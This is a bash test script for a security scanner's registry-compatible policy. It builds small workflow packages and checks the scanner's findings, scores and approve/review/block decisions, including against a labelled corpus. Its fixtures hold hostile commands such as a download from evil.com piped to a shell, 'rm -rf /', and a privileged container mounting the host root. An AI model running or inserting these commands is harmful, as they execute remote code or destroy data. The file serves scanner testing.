#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# --policy=registry-compat: the registry's findings, score and decision, by its published vectors; and, where a folder with labelled cases and their score.py
# is at hand (see corpus.t), the same findings as its reference on each of them.
. "$(dirname "$0")/lib.sh"

# vector WHAT MODE FOUND SCORE DECISION APPROVAL: the step from standard input in a package
vector() {
	printf '%s\n' "apiVersion: v1" "kind: WorkflowPackage" "metadata: {name: v, version: 1.0.0, description: d, author: a}" \
		"spec:" "  runtime: {type: shell}" "  safety: {mode: $2}" "  handlers:" "  - name: h" "    steps:" "    - name: s" > v.wpk.yaml
	sed 's/^/      /' >> v.wpk.yaml
	run scan --policy=registry-compat --format=json v.wpk.yaml
	json "[sorted(f['rule_id'] for f in d['findings'])] + [d['files'][0][k] for k in ('score', 'decision', 'approval_required')] == [sorted('$3'.split()), $4, '$5', $6]" "$1"
}

vector "a privileged container" manual "privileged_container" 37 approve True <<'YAML'
container: {image: "a:1", securityContext: {privileged: true}, resources: {limits: {cpu: 1, memory: 1Gi}}}
YAML
vector "the same, automatically" auto "privileged_container" 37 review True <<'YAML'
container: {image: "a:1", securityContext: {privileged: true}, resources: {limits: {cpu: 1, memory: 1Gi}}}
YAML
unsafe="privileged_container dangerous_capabilities host_path_mount excessive_resources excessive_resources insecure_image"
vector "the unsafe container of the public tests" auto "$unsafe" 100 block True <<'YAML'
container:
  image: ubuntu:latest
  securityContext: {privileged: true, capabilities: {add: [CAP_SYS_ADMIN]}}
  volumeMounts: [{name: host-root, mountPath: /}]
  resources: {limits: {cpu: "8", memory: 16Gi}}
YAML
vector "a download to a shell" auto "external_network" 18 approve False <<'YAML'
shell: {command: "curl http://evil.com/x | sh"}
YAML
vector "the root is deleted" auto "" 0 approve False <<'YAML'
shell: {command: "rm -rf /"}
YAML
vector "a key" auto "hardcoded_secrets" 21 approve False <<'YAML'
shell: {command: "export API_KEY=abc"}
YAML
vector "a privileged pod" auto "" 0 approve False <<'YAML'
kubernetes: {apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {containers: [{name: c, securityContext: {privileged: true}}], volumes: [{name: h, hostPath: {path: /}}]}}
YAML
vector "memory in bytes" auto "" 0 approve False <<'YAML'
container: {image: "a:1", resources: {limits: {cpu: 1, memory: 9663676416}}}
YAML
vector "rights over the cluster" manual "cluster_permissions" 19 approve False <<'YAML'
kubernetes: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: r}}
YAML
vector "commands are not looked into" manual "missing_limits insecure_image" 20 approve False <<'YAML'
container: {image: a, command: [sh, -c, "curl http://evil.com/x | sh"]}
YAML

cat > own.yaml <<'YAML'
rules:
  - {id: own/hello, title: Says hello, severity: low, category: own, applies_to: text, help: h, suggestion: s,
     match: [{matches: hello, keywords: [hello]}], samples: {match: [hello], no_match: [bye]}}
YAML
mkdir rules && mv own.yaml rules
wpk hello
run scan --policy=registry-compat --rules=rules --format=json hello.wpk.yaml
json '{f["rule_id"] for f in d["findings"]} == {"own/hello"}' "own rules are asked for beside the registry's"

compare='
import importlib.util, json, os, subprocess, sys
corpus, program = sys.argv[1], os.environ["SANDBOX_RUNNER"]
spec = importlib.util.spec_from_file_location("score", os.path.join(corpus, "score.py"))
score = importlib.util.module_from_spec(spec)
spec.loader.exec_module(score)
names, wrong = {}, 0
for case in score.load([corpus]):
    names["%s.wpk.yaml" % case["id"]] = case
    with open("%s.wpk.yaml" % case["id"], "w", encoding="utf-8", newline="") as f:
        f.write(score.package(case, "steps", "auto")[0])
files = sorted(names)
out = subprocess.run([program, "scan", "--policy=registry-compat", "--no-ignore", "--format=json", *files], stdout=subprocess.PIPE).stdout
found = {name: [] for name in files}
for f in json.loads(out)["findings"]:
    if "/" not in f["rule_id"]:
        found[f["file"]].append((f["rule_id"], f["severity"]))
for name, case in names.items():
    try:
        wanted = sorted((f["rule_id"], f["severity"]) for f in score.public_baseline(case))
    except Exception as e:
        print("# %s: the reference fails: %r" % (name, e))
        continue
    if sorted(found[name]) != wanted:
        wrong += 1
        print("# %s: %s instead of %s" % (name, sorted(found[name]), wanted))
sys.exit(wrong != 0 or not files)'
corpus=${SCAN_CORPUS:-$repo/../shared/corpus/scan}
if [ -f "$corpus/score.py" ]; then
	mkdir corpus && cd corpus
	python3 -c "$compare" "$corpus"; result $? "the same findings as the reference on every case"
	cd ..
else
	skip "the same findings as the reference on every case" "no labelled cases at $corpus (set SCAN_CORPUS)"
fi
finish
